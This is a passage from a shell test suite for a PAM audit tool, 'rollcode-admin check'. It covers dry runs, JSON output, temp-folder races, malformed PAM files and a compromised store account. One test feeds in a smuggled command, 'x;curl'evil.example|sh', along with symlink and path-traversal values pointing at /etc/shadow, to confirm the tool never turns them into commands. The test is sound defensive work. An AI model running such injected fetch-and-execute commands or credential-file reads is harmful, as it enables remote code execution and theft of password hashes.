	rm /etc/pam.d/{passwd,wrapper}
	edit "$SSHD" '/^AuthenticationM/d'
	found
	equal "the README's lines are worth a note" "$names" sshd-key
	equal "and no more" "$status" 0
	with_sshd=
}

changes_nothing() {
	with_sshd=1
	local before after
	restore
	before=$(admin list --json; admin show ann --json; cat "$ENVFILE")
	found
	found ann --service sshd
	after=$(admin list --json; admin show ann --json; cat "$ENVFILE")
	equal "it changes nothing and counts nothing" "$after" "$before"
}

# --- how it is called -------------------------------------------------------

dry_run() {
	local unix="auth required pam_unix.so"
	restore
	found ann --service sshd
	equal "--service says what becomes of each outcome" \
	    "$(sed -n '/^sshd, if/,/^[a-z]*:/p' "$T/found" | tail -n +2 |
	    grep -o 'accepted$\|refused$' | xargs)" \
	    "accepted refused refused refused refused refused refused"
	control optional
	found --service sudo
	check "also where it is wrong" \
	    grep -qE '^  a wrong code +accepted$' "$T/found"
	stack sudo "$unix" "$OURS nullok"
	found --service sudo
	check "with nullok no token is let through" \
	    grep -qE '^  no token +accepted$' "$T/found"
	stack sudo "$unix" \
	    "auth [success=ok user_unknown=ignore default=die] pam_rollcode.so"
	found --service sudo
	check "with user_unknown=ignore it is not: that is a refusal like others" \
	    grep -qE '^  no token +refused$' "$T/found"
	refused "a service that is not there is none" \
	    admin check --service nothing
	refused "nothing of the copies stays" \
	    compgen -G '/[rt][um][np]/rollcode-check.*'
	admin check one two >"$T/out" 2>&1
	equal "called wrongly it ends with 2" "$?" 2
	refused "only root can look" as ann rollcode-admin check
}

json() {
	restore
	stack sudo "auth sufficient pam_rollcode.so" "auth required pam_unix.so"
	admin check --json --service sudo >"$T/json" 2>"$T/out"
	equal "--json is for programs" "$(python3 - "$T/json" <<-'PYTHON'
	import json, sys
	it = json.load(open(sys.argv[1]))
	f = it["findings"][0]
	print(it["errors"], it["warnings"], f["severity"], f["name"], f["file"],
	    f["line"], it["outcomes"]["refused"], f["fix"], f["command"] == "")
	PYTHON
	)" "1 0 error stack-refusal /etc/pam.d/sudo 1 True \
auth required pam_rollcode.so True"
}

gone_for_nobody() {
	! pgrep -u nobody rollcode-admin
}

# What stands in for the modules of a service, and the copies of its files.
standins() {
	local result i
	restore
	stack odd "auth required ${VERIFIER%/*}/rollcode-standin.so 0"
	read -r _ result _ < <("$PAMRUN" /etc/pam.d odd <<<$'ann\t0')
	equal "what stands in for modules refuses in a real service" \
	    "$result" SYSTEM_ERR
	restore
	mkdir -m 700 /tmp/rollcode-check.XXXXXX
	chown ann /tmp/rollcode-check.XXXXXX
	mount -t tmpfs -o ro none /run
	found --service sudo
	umount /run
	equal "without room in /run stacks are tried nevertheless" \
	    "${severity[stack]-none}" none
	equal "and a folder of somebody else's is left alone" \
	    "$(stat -c '%U %a' /tmp/rollcode-check.XXXXXX)" "ann 700"
	rmdir /tmp/rollcode-check.XXXXXX
	syslog_start
	found
	logger -u /dev/log "the end."
	check "what is logged is seen" logged "the end"
	refused "and of a trial nothing is" grep -v "the end" "$T/syslog"
	for ((i = 1; i < 40; i++)); do
		timeout -s TERM "0.0$i" rollcode-admin check
	done >"$T/found" 2>"$T/sum"
	refused "a signal at any moment leaves no copy of a service" \
	    compgen -G '/[rt][um][np]/rollcode-check.*'
	for ((i = 0; i < 200; i++)); do
		echo "auth [success=ok default=ignore] pam_unix.so"
	done >/etc/pam.d/sudo
	echo "$OURS" >>/etc/pam.d/sudo
	start rollcode-admin check >"$T/found" 2>"$T/sum"
	wait_for pgrep -u nobody rollcode-admin
	kill -9 "$started"
	wait "$started" 2>"$T/out"
	check "and where nothing can be done, no process" \
	    wait_for gone_for_nobody
	rm -r /run/rollcode-check.*
}

# Where /run has no room, and somebody knows the name of the folder in /tmp.
feigned_folder() {
	restore
	mount -n -t tmpfs -o mode=1777 tmp /tmp
	as ann mkdir /tmp/rollcode-check.XXXXXX
	as ann touch /tmp/rollcode-check.XXXXXX/f0
	mount -n -o remount,ro /run
	found
	mount -n -o remount,rw /run
	check "a folder of somebody else's is not taken for the copies" \
	    test -e /tmp/rollcode-check.XXXXXX/f0
	equal "and stays theirs" \
	    "$(stat -c %U /tmp/rollcode-check.XXXXXX)" ann
	refused "and another one is made" grep -q "cannot be tried" "$T/found"
	rm -r /tmp/rollcode-check.XXXXXX
	equal "that is gone afterwards" "$(ls -A /tmp)" ""
	umount /tmp
}

# --- a child in the hands of somebody else -----------------------------------

LYING=$BUILD/tests/tools/liblying.so

# Whoever took the account over that owns the store.
lies() {
	local u=$T/store/users
	restore
	ln -s /etc/shadow "$u/link"
	ln "$u/ann.db" "$u/twice"
	chmod 644 "$u/ann.db" "$u/bob.db"
	LD_PRELOAD=$LYING LIE="curl x x
user-guarded x;curl'evil.example|sh x
user-guarded --conf=/tmp/x y
user-missing ann x
store-place x /etc/shadow
store-place x $u/../../../../../etc/shadow
store-place x $u/link
store-place x $u/ann.db
store-place x $u/bob.db
user-file ann $T/elsewhere" timeout 60 rollcode-admin check --json >"$T/json" \
	    2>"$T/sum"
	equal "what a store's account says is a command only if root makes it" \
	    "$(python3 - "$T/json" <<-'PYTHON'
	import json, sys
	for f in json.load(open(sys.argv[1]))["findings"]:
	    if "evil.example" in f["what"] or "curl" in str(f):
	        print(f["name"], f["command"])
	PYTHON
	)" "user-guarded rollcode-admin unlock 'x;curl'\\''evil.example|sh'
user-guarded 
user-missing 
store-place 
store-place 
store-place 
store-place 
store-place runuser -u rollcode -- chmod 600 $u/bob.db
user-file "
	refused "nor is it a fix" grep -qE '"fix": *"[^"]*evil' "$T/json"
	rm "$u/twice"
}

# The verifier runs as that account too.
verifier_lies() {
	restore
	cp --remove-destination "$BUILD/tests/tools/fake_verifier" "$VERIFIER"
	{ echo "#fix"; cat "$ENVFILE"; } >/etc/rollcode/fake.env
	chmod 600 /etc/rollcode/fake.env
	CONF=/etc/rollcode/fake.env found
	check "what a verifier says is shown" grep -q "it is broken" "$T/found"
	refused "and is no command either" grep -q evil "$T/found"
}

# It takes as long as a server may, beside all other tests.
hang_begin() {
	stack plain "auth required pam_unix.so"
	LD_PRELOAD=$LYING LIE=hang start rollcode-admin check --service plain \
	    >"$T/hang" 2>&1
	hanging=$started
	wait_for pgrep -u rollcode rollcode-admin
}

no_reader() {
	! pgrep -u rollcode rollcode-admin
}

hang_end() {
	wait "$hanging"
	equal "a store that never answers ends nothing: the status is 1" "$?" 1
	check "and that is found" grep -q "did not end well" "$T/hang"
	check "and nothing of it stays" wait_for no_reader
}

hostile() {
	local i
	restore
	head -c 1048576 /dev/urandom >/etc/pam.d/random
	head -c 1048576 /dev/zero | tr '\0' '[' >/etc/pam.d/brackets
	printf 'auth required pam_rollcode.so\\\0\n\xff auth' >/etc/pam.d/bytes
	for ((i = 0; i < 40; i++)); do
		printf 'auth substack d%d\n' $((i + 1)) $((i + 1)) \
		    >"/etc/pam.d/d$i"
	done
	echo "$OURS" >/etc/pam.d/d40
	ln -s loop /etc/pam.d/loop
	mkfifo /etc/pam.d/fifo
	mkdir /etc/pam.d/folder
	echo "$OURS nullok" >$'/etc/pam.d/\e[2J\xff\n\xc2\x9b'
	timeout 20 rollcode-admin check >"$T/found" 2>"$T/sum"
	equal "files of anything neither stop nor crash it" "$?" 1
	check "what is odd in a name is shown as such" \
	    grep -qF '/etc/pam.d/\x1b[2J\xff\x0a\xc2\x9b:1' "$T/found"
	refused "and does not reach the terminal" \
	    grep -qP '[^\x20-\x7e\n]' "$T/found"
}

arrange
[ "$long" = long ] || hang_begin
right
env_file
store_cases
witness_cases
user_cases
verifier_cases
line_cases
stack_cases
sshd_cases
service_cases
program_cases
if [ "$long" = long ]; then
	agrees 200
	exit 0
fi
agrees 12
check "at least 25 mistakes were planted" test "$plants" -ge 25
# What a role can do is in roles.sh, what the clock may be in findings.sh, and a
# database that went back in pgsql_restored.sh.
equal "and every finding that there is but of clocks, and a store nobody can list" \
    "$(findings_of_check |
	grep -vxF "$(tr ' ' '\n' <<<"$planted" | grep .)" | xargs)" \
    "clock store store-role unmarked"
changes_nothing
dry_run
json
standins
feigned_folder
hostile
lies
verifier_lies
hang_end
exit 0
